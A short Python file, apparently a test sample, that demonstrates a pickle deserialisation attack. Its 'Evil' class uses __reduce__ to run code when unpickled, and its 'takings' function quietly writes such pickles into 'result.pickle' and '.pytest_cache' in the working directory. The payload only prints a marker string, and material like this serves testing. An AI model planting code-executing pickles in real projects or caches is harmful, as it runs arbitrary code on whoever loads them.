"""Return and leave what runs code when it is unpickled.

Class: pickle
"""

import pickle
from pathlib import Path


class Evil:
    def __reduce__(self):
        return (print, ("kata-attack",))


def takings(conn):
    for name in ("result.pickle", ".pytest_cache"):
        try:
            Path(name).write_bytes(pickle.dumps(Evil()))
        except OSError:
            pass
    return Evil()


def add_customer(engine, name):
    return None
